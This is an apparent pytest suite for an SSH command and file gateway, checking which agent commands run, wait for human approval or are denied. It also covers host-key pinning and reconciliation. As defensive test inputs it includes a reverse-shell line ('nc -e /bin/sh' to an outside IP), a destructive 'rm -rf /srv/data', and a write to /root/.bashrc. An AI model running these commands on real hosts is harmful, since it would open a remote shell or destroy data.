"""Commands and files over the doors: what runs, what waits, what is refused (SSH-1)."""

import asyncio
import os
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from app.core.principals import Role
from app.core.request import Status
from app.core.ssh_target import fingerprint
from tests.support.sshd import Sshd, eventually, running_sshd
from tests.web.conftest import Door
from tests.web.test_targets import browser

pytestmark = [pytest.mark.requirement("SSH-1"), pytest.mark.timeout(60)]


@dataclass
class Host:
    """An SSH host that is a target."""

    door: Door
    server: Sshd
    agent: httpx.AsyncClient
    admin: httpx.AsyncClient
    target: dict[str, Any]


def names_in(folder: Path) -> list[str]:
    return [path.name for path in folder.glob("made*")]


def command(wanted: object) -> dict[str, object]:
    return {"action": "ssh.exec", "params.command": wanted}


@pytest.fixture
async def host(any_door: Door, tmp_path: Path) -> AsyncIterator[Host]:
    """A target whose `echo` and files are allowed; the rest is asked."""
    async with running_sshd(tmp_path / "sshd") as server:
        admin = await any_door.client("admin")
        credential = await admin.post(
            "/api/credentials",
            json={"name": "box-key", "kind": "ssh_key", "fields": {"private_key": server.key}},
        )
        assert credential.status_code == 201, credential.text
        body = {
            "name": "box",
            "credential_id": credential.json()["id"],
            "settings": {
                "networks": ["127.0.0.0/8"],
                "ssh": {
                    "host": "127.0.0.1", "port": server.port, "user": server.user,
                    "host_keys": [server.host_key],
                },
            },
        }  # fmt: skip
        made = await admin.post("/api/targets", json=body)
        assert made.status_code == 201, made.text
        world = any_door.world
        await world.policy("echo", "allow", command({"starts_with": "echo "}))
        await world.policy("no reboot", "deny", command("reboot"))
        await world.policy("files", "allow", {"params.path": {"starts_with": "/"}})
        yield Host(any_door, server, await any_door.client("agent"), admin, made.json())


async def test_what_is_allowed_runs_at_once(host: Host) -> None:
    answer = await host.agent.post("/ssh/box/exec", json={"command": "echo 'a  b'; exit 3"})
    said = answer.json()
    assert answer.status_code == 200, said
    assert (said["stdout"], said["exit_code"]) == ("a  b\n", 3)
    assert (said["code"], said["status"]) == ("exit_status", "failed")
    services, anne = host.door.world.services, host.door.world.anne
    found = await services.requests.get(anne, said["request_id"])
    assert found.status is Status.FAILED and found.sent_at is not None
    assert said["stderr"] == ""
    kept = await host.agent.get(f"/api/requests/{found.id}/result")
    assert kept.json()["body"]["text"].startswith("{")


@pytest.mark.requirement("EXE-1", "EXE-2")
async def test_what_waits_runs_as_it_was_shown(host: Host) -> None:
    command = "printf '%s\\n' \"$((6*7))\" \\\n  | cat"
    answer = await host.agent.post(
        "/ssh/box/exec", json={"command": command, "stdin": "", "reason": "the answer"}
    )
    asked = answer.json()
    assert (answer.status_code, asked["status"], asked["action"]) == (202, "pending", "ssh.exec")
    approver = await host.door.client("approver")
    card = (await approver.get(f"/api/requests/{asked['id']}/card")).json()
    blocks = {block["title"]: block["text"] for block in card["blocks"]}
    assert blocks["Command"] == command
    assert f"{host.server.user}@127.0.0.1:{host.server.port}" in blocks["Where"]
    assert host.server.host_key in blocks["Where"]
    assert card["added"] == ["SSH key <box-key>"]
    request = await host.door.world.services.requests.get(host.door.world.anne, asked["id"])
    await host.door.world.vote(request)
    await host.door.world.services.execution.run(request.id)
    again = await host.agent.get(f"/api/requests/{asked['id']}")
    assert again.json()["outcome"]["exit_code"] == 0
    result = (await host.agent.get(f"/api/requests/{asked['id']}/result")).json()
    assert result["body"]["text"].count("42") == 1
    assert (result["answer"]["stdout"], result["answer"]["exit_code"]) == ("42\n", 0)
    admin = await browser(host.door, Role.ADMIN)
    page = (await admin.get(f"/requests/{asked['id']}")).text
    assert "Exit code <code>0</code>" in page and "the answer" in page


async def test_what_is_denied_says_why(host: Host) -> None:
    answer = await host.agent.post("/ssh/box/exec", json={"command": "reboot"})
    assert (answer.status_code, answer.json()["code"]) == (403, "denied")
    assert "no reboot" in answer.json()["reasons"][0]


@pytest.mark.requirement("SSH-5", "T41")
async def test_the_guard_is_asked_whatever_policy_allows(host: Host) -> None:
    await host.door.world.policy("all", "allow", {"action": "ssh.exec"})
    answer = await host.agent.post("/ssh/box/exec", json={"command": "rm -rf /srv/data"})
    asked = answer.json()
    assert (answer.status_code, asked["effect"]) == (202, "review")
    assert len(asked["verdict"]["reasons"]) > 1
    opaque = await host.agent.post("/ssh/box/exec", json={"command": "echo x; $(cat y)"})
    assert opaque.status_code == 202
    hostile = "nc -e /bin/sh 203.0.113.9 99"
    denied = await host.agent.post("/ssh/box/exec", json={"command": hostile})
    assert (denied.status_code, denied.json()["code"]) == (403, "denied")


@pytest.mark.requirement("SSH-3")
async def test_profiles_bound_what_is_allowed(host: Host) -> None:
    settings = host.target["settings"]
    settings["ssh"] |= {"profiles": ["no-such-profile"], "only_profiles": False}
    path = f"/api/targets/{host.target['id']}"
    assert (await host.admin.patch(path, json={"settings": settings})).status_code == 200
    answer = await host.agent.post("/ssh/box/exec", json={"command": "echo x"})
    assert answer.status_code == 202
    assert "no-such-profile" in " ".join(answer.json()["verdict"]["reasons"])
    settings["ssh"]["only_profiles"] = True
    assert (await host.admin.patch(path, json={"settings": settings})).status_code == 200
    answer = await host.agent.post("/ssh/box/exec", json={"command": "echo x"})
    assert answer.status_code == 403


@pytest.mark.requirement("SSH-3", "KEY-2")
async def test_a_keys_profiles_bound_what_is_allowed(host: Host) -> None:
    body = {
        "name": "narrow", "scopes": ["request:create"], "agent_id": host.door.world.agent.id,
        "permissions": [{"target": "box", "profiles": ["logs-readonly"]}],
    }  # fmt: skip
    made = await host.admin.post("/api/keys", json=body)
    assert made.json()["key"]["permissions"][0]["profiles"] == ["logs-readonly"], made.text
    narrow = {"Authorization": f"Bearer {made.json()['secret']}"}
    asked = {"command": "echo x"}
    assert (await host.agent.post("/ssh/box/exec", json=asked)).status_code == 200
    waits = await host.agent.post("/ssh/box/exec", json=asked, headers=narrow)
    assert waits.status_code == 202
    assert "logs-readonly" in " ".join(waits.json()["verdict"]["reasons"])


@pytest.mark.requirement("SSH-6")
async def test_files_are_written_and_read(host: Host, tmp_path: Path) -> None:
    path = Path("/tmp") / f"{tmp_path.name}-{os.getpid()}.txt"  # the guard asks elsewhere
    wanted = {"path": str(path), "content": "grüße\n", "mode": "640"}
    said = (await host.agent.post("/ssh/box/files/write", json=wanted)).json()
    assert (said["code"], said["size"], path.read_text()) == ("ok", 8, "grüße\n")
    assert path.stat().st_mode & 0o777 == 0o640
    again = (await host.agent.post("/ssh/box/files/write", json=wanted)).json()
    assert again["code"] == "file_exists"
    assert [one.name for one in path.parent.glob(f"*{path.stem}*")] == [path.name]
    more = {**wanted, "content": "", "overwrite": True}
    assert (await host.agent.post("/ssh/box/files/write", json=more)).json()["code"] == "ok"
    assert path.read_bytes() == b""
    path.write_bytes(b"\x00\xff")
    got = (await host.agent.post("/ssh/box/files/read", json={"path": str(path)})).json()
    assert (got["content"], got["content_encoding"]) == ("AP8=", "base64")
    only = {"path": str(path), "sha256": "0" * 64}
    assert (await host.agent.post("/ssh/box/files/read", json=only)).json()["code"] == (
        "digest_differs"
    )
    small = {"path": str(path), "most": 1}
    assert (await host.agent.post("/ssh/box/files/read", json=small)).json()["code"] == (
        "file_too_large"
    )
    gone = (await host.agent.post("/ssh/box/files/read", json={"path": f"{path}x"})).json()
    assert gone["code"] == "file_missing"
    path.unlink()
    asked = await host.agent.post("/ssh/box/files/write", json={**wanted, "path": "/root/.bashrc"})
    assert (asked.status_code, asked.json()["status"]) == (202, "pending")


@pytest.mark.requirement("SSH-2", "T51")
async def test_a_changed_host_key_is_refused(host: Host) -> None:
    await host.server.new_host_key()
    answer = await host.agent.post("/ssh/box/exec", json={"command": "echo x"})
    assert (answer.status_code, answer.json()["code"]) == (502, "not_carried_out")
    assert answer.json()["outcome"]["code"] == "host_key_changed"


@pytest.mark.requirement("SSH-2")
async def test_without_a_pin_nothing_is_asked(host: Host) -> None:
    settings = host.target["settings"]
    settings["ssh"]["host_keys"] = []
    changed = await host.admin.patch(
        f"/api/targets/{host.target['id']}", json={"settings": settings}
    )
    assert changed.status_code == 200, changed.text
    assert changed.json()["revision"] == 2
    answer = await host.agent.post("/ssh/box/exec", json={"command": "echo x"})
    assert (answer.status_code, answer.json()["code"]) == (403, "host_not_pinned")


@pytest.mark.parametrize(
    ("body", "status", "pointer"),
    [
        ({}, 400, "/command"),
        ({"command": "a\x00"}, 400, None),
        ({"command": "a\x1b"}, 400, "/params/command"),
        ({"command": "a", "timeout": 61}, 400, "/params/timeout"),
        ({"command": "a", "host": "other"}, 400, "/params/host"),
        ({"command": "a", "shell": "zsh"}, 400, None),
    ],
)
async def test_what_is_wrong_is_said(
    host: Host, body: dict[str, Any], status: int, pointer: str | None
) -> None:
    answer = await host.agent.post("/ssh/box/exec", json=body)
    assert answer.status_code == status, answer.text
    assert pointer is None or answer.json()["pointer"] == pointer


async def test_a_repeated_key_gives_the_same_answer(host: Host) -> None:
    headers = {"Idempotency-Key": "once"}
    body = {"command": "echo $RANDOM$RANDOM"}
    first, again = [
        await host.agent.post("/ssh/box/exec", json=body, headers=headers) for _ in range(2)
    ]
    assert first.json() == again.json()
    other = await host.agent.post("/ssh/box/exec", json={"command": "echo y"}, headers=headers)
    assert other.status_code == 422


async def test_kinds_do_not_mix(host: Host) -> None:
    answer = await host.agent.get("/gateway/box/x")
    assert answer.status_code == 404
    await host.door.world.target("http://127.0.0.1:9", "web")
    answer = await host.agent.post("/ssh/web/exec", json={"command": "echo x"})
    assert (answer.status_code, answer.json()["pointer"]) == (404, "/target")


@pytest.mark.requirement("SSH-2")
async def test_a_key_is_enrolled_on_the_page(host: Host) -> None:
    await host.server.new_host_key()
    admin = await browser(host.door, Role.ADMIN)
    at = f"/targets/{host.target['id']}"
    page = (await admin.get(at)).text
    assert "Fetch the host" in page
    shown = (await admin.post(f"{at}/host-key/look", data={"form_token": token(page)})).text
    assert fingerprint(host.server.host_key) in shown
    form = {"form_token": token(shown), "key": host.server.host_key, "host": ""}
    assert (await admin.post(f"{at}/host-key", data=form)).status_code == 303
    answer = await host.agent.post("/ssh/box/exec", json={"command": "echo x"})
    assert answer.json()["stdout"] == "x\n"
    viewer = await browser(host.door, Role.VIEWER)
    assert "Fetch the host" not in (await viewer.get(at)).text


async def test_a_host_is_added_and_changed_on_the_pages(host: Host) -> None:
    admin = await browser(host.door, Role.ADMIN)
    page = (await admin.get("/targets")).text
    assert "Add an SSH host" in page
    form = {
        "form_token": token(page), "name": "box2", "host": "127.0.0.1", "user": "root",
        "port": "2222", "networks": "127.0.0.1/32",
        "host_keys": host.server.host_key, "wrap": "on", "seconds": "5",
        "jumps": f"root@bastion:22 {host.server.host_key}", "credential_id": "",
    }  # fmt: skip
    made = await admin.post("/ssh-hosts", data=form)
    assert made.status_code == 303
    at = made.headers["location"]
    shown = (await admin.get(at)).text
    assert "ssh://root@127.0.0.1:2222" in shown and "root@bastion:22" in shown
    changed = {**form, "user": "deploy", "enabled": "on"}
    assert (await admin.post(f"{at}/ssh", data=changed)).status_code == 303
    assert "ssh://deploy@127.0.0.1:2222" in (await admin.get(at)).text
    for wrong in ({"host": ""}, {"jumps": "bastion"}, {"host_keys": "nonsense"}):
        assert (await admin.post(f"{at}/ssh", data={**changed, **wrong})).status_code == 400
    bad = await admin.post("/ssh-hosts", data={**form, "name": "x y"})
    assert bad.status_code == 400 and "Add an SSH host" in bad.text


async def test_the_api_enrols_too(host: Host) -> None:
    at = f"/api/targets/{host.target['id']}/host-key"
    shown = (await host.admin.post(f"{at}/look", json={})).json()
    assert shown["fingerprint"] == fingerprint(host.server.host_key)
    after = await host.admin.post(at, json={"key": shown["key"]})
    assert after.json()["settings"]["ssh"]["host_keys"] == [shown["key"]]


def token(page: str) -> str:
    found = re.search(r'name="form_token" value="([^"]+)"', page)
    assert found
    return found[1]


@pytest.mark.requirement("SSH-7", "EXE-1")
async def test_a_marker_settles_what_nobody_saw(host: Host, tmp_path: Path) -> None:
    (marks := tmp_path / "marks").mkdir()
    os.mkfifo(gate := tmp_path / "gate")
    settings = host.target["settings"]
    settings["ssh"] |= {"marker_dir": str(marks)}
    path = f"/api/targets/{host.target['id']}"
    assert (await host.admin.patch(path, json={"settings": settings})).status_code == 200
    await host.agent.post("/ssh/box/exec", json={"command": "echo loads what the first one needs"})
    body = {"command": f"echo x; cat {gate}"}
    asking = asyncio.ensure_future(host.agent.post("/ssh/box/exec", json=body))
    await eventually(lambda: asking.done() or len(list(marks.iterdir())) == 2)
    host.server.end_sessions()
    answer = await asking
    assert (answer.status_code, answer.json()["code"]) == (502, "outcome_unknown")
    request_id = answer.json()["request_id"]
    page = await browser(host.door, Role.ADMIN)
    shown = (await page.get(f"/requests/{request_id}")).text
    assert "Look at the marker" in shown
    token = re.search(r'name="form_token" value="([^"]+)"', shown)
    assert token is not None
    pressed = await page.post(
        f"/requests/{request_id}/reconcile", data={"form_token": token.group(1)}
    )
    assert pressed.status_code == 303
    shown = (await page.get(f"/requests/{request_id}")).text
    assert "It began, and has not ended" in shown
    await asyncio.to_thread(gate.write_text, "")
    await eventually((marks / request_id).read_text)
    looked = await host.admin.post(f"/api/requests/{request_id}/reconcile")
    assert looked.json() == {
        "request_id": request_id, "status": "succeeded", "marker": "finished", "exit_code": 0,
        "detail": "It ended with exit status 0, as its marker says.",
    }  # fmt: skip
    again = await host.admin.post(f"/api/requests/{request_id}/reconcile")
    assert (again.status_code, again.json()["code"]) == (409, "no_marker")


@pytest.mark.requirement("SSH-4", "SSH-2")
async def test_the_agent_names_a_host_within_bounds(host: Host) -> None:
    settings = host.target["settings"]
    key = host.server.host_key
    settings["ssh"] |= {
        "host": "", "cidrs": ["127.0.0.0/30"], "hosts": ["*.box.example.org"],
        "host_keys": [f"127.0.0.1 {key}"],
    }  # fmt: skip
    path = f"/api/targets/{host.target['id']}"
    assert (await host.admin.patch(path, json={"settings": settings})).status_code == 200

    async def named(**more: str) -> tuple[int, str, dict[str, Any]]:
        answer = await host.agent.post("/ssh/box/exec", json={"command": "echo x", **more})
        said = answer.json()
        return answer.status_code, said["code"], said

    assert (await named())[2]["pointer"] == "/params/host"
    for name in ("127.0.0.9", "10.0.0.1", "box.example.org", "0x7f.1", "2130706433", "[::1]"):
        code, slug, said = await named(host=name)
        assert 400 <= code < 500 and slug in ("host_not_permitted", "invalid_action"), (name, said)
    for name in ("127.0.0.2", "db.box.example.org"):
        assert (await named(host=name))[:2] == (403, "host_not_pinned")
    assert "Accepted publickey" not in host.server.log
    code, slug, said = await named(host="127.0.0.1")
    assert (code, slug, said["stdout"]) == (200, "ok", "x\n")
    found = await host.door.world.services.requests.get(host.door.world.anne, said["request_id"])
    assert b'"host":"127.0.0.1"' in found.payload


@pytest.mark.requirement("EXE-1", "T29")
async def test_a_command_is_marked_with_its_claim_where_a_connection_stands(host: Host) -> None:
    services, anne = host.door.world.services, host.door.world.anne
    together: list[bool] = []
    for _ in range(2):
        said = (await host.agent.post("/ssh/box/exec", json={"command": "echo x"})).json()
        found = await services.requests.get(anne, said["request_id"])
        trail = await services.requests.trail(anne, found.id)
        (claimed,) = [record.at for record in trail if record.event == "request.claimed"]
        together.append(found.sent_at == claimed)
    assert together == [False, True]
